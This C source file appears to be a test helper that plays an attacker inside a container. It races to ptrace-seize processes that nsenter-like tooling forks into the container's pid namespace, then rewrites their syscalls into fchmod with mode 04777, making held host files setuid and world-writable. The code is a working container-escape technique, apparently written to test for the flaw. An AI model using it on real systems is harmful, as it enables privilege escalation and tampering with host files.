/* SPDX-License-Identifier: 0BSD */
/* seize: the root of a container (user namespace owned by host root) racing
 * for what nsenter forks into its pid namespace, as an attacker would.
 *
 *   seize race COUNT LOG   for COUNT new processes, one after another, in
 *                          our pid namespace: PTRACE_SEIZE each the moment
 *                          its pid exists and turn its next syscalls into
 *                          fchmod(fd, 04777) for fds 3..20, so that a host
 *                          file it holds becomes setuid and world-writable.
 *                          One line per process in LOG: "seized PID
 *                          CHANGED", "refused PID ERRNO" or "missed PID 0"
 *                          (gone before we looked: /proc, mounted for our
 *                          pid namespace, has a later ns_last_pid).
 *   seize linger           wait 50 ms, exit 0 (a static program for
 *                          --host-exec, long enough to be seen)
 *   PROG target-loader     as the loader a target put where a dynamic
 *                          PROG's PT_INTERP points: says so on stdout, with
 *                          its uid, and exits 42
 *
 * Exit 3: ptrace is not usable here (not x86_64, Yama, a seccomp filter),
 * checked on a child of our own first. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#if defined(__x86_64__)
#include <sys/user.h>
#endif

#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#define PTRACE_INTERRUPT 0x4207
#endif

static FILE *log_file;

static void say(const char *what, pid_t pid, long n)
{
	fprintf(log_file, "%s %d %ld\n", what, (int)pid, n);
	fflush(log_file);
}

#if defined(__x86_64__)
/* Stopped at its first chance: each syscall it enters becomes fchmod of
 * the next fd. Returns how many of them changed a file. */
static long hijack(pid_t pid)
{
	long changed = 0, fd = 3;
	int status;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	for (int stops = 0; stops < 200 && fd <= 20; stops++) {
		if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
			return changed;
		struct user_regs_struct regs;
		if (status >> 8 == (SIGTRAP | 0x80) && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
			if (regs.rax == (unsigned long long)-ENOSYS) {	/* entering */
				regs.orig_rax = SYS_fchmod;
				regs.rdi = (unsigned long long)fd++;
				regs.rsi = 04777;
				ptrace(PTRACE_SETREGS, pid, 0, &regs);
			} else if (regs.orig_rax == SYS_fchmod && regs.rax == 0)
				changed++;
		}
		ptrace(PTRACE_SYSCALL, pid, 0, 0);
	}
	return changed;
}
#endif

static int seize(pid_t pid)
{
	return (int)ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL);
}

/* Can we trace at all? A child of our own, which any tracer may seize. */
static int control(void)
{
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	int rc = child > 0 ? seize(child) : -1, err = errno;
	kill(child, SIGKILL);
	waitpid(child, NULL, __WALL);
	errno = err;
	return rc < 0 ? -1 : child;
}

/* The last pid handed out in our pid namespace, or -1. */
static long last_pid(int fd)
{
	char text[24];
	ssize_t n = pread(fd, text, sizeof text - 1, 0);
	if (n <= 0)
		return -1;
	text[n] = '\0';
	return atol(text);
}

static int race(long count, pid_t last)
{
	struct timespec start, now;
	pid_t next = last + 1;
	int last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);

	for (long i = 0; i < count; i++, next++) {
		clock_gettime(CLOCK_MONOTONIC, &start);
		for (;;) {
			if (seize(next) == 0) {
#if defined(__x86_64__)
				say("seized", next, hijack(next));
#endif
				kill(next, SIGKILL);
				while (waitpid(next, NULL, __WALL) < 0 && errno == EINTR)
					;
				break;
			}
			if (errno != ESRCH) {
				say("refused", next, errno);
				break;
			}
			if (last_pid(last_fd) > next) {	/* gone before we looked */
				say("missed", next, 0);
				break;
			}
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (now.tv_sec - start.tv_sec > 60) {
				say("timeout", next, 0);
				return 1;
			}
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "target-loader")) {
		printf("the target's loader ran as uid %d\n", (int)geteuid());
		return 42;
	}
	if (argc == 2 && !strcmp(argv[1], "linger"))
		return nanosleep(&(struct timespec){ 0, 50000000 }, NULL);
	if (argc < 4 || strcmp(argv[1], "race"))
		return 0;
	log_file = fopen(argv[3], "w");
	if (!log_file)
		return 1;
#if !defined(__x86_64__)
	say("unsupported", getpid(), 0);
	return 3;
#endif
	int last = control();
	if (last < 0) {
		say("control", getpid(), errno);
		return 3;
	}
	say("ready", last, 0);
	return race(atol(argv[2]), last);
}
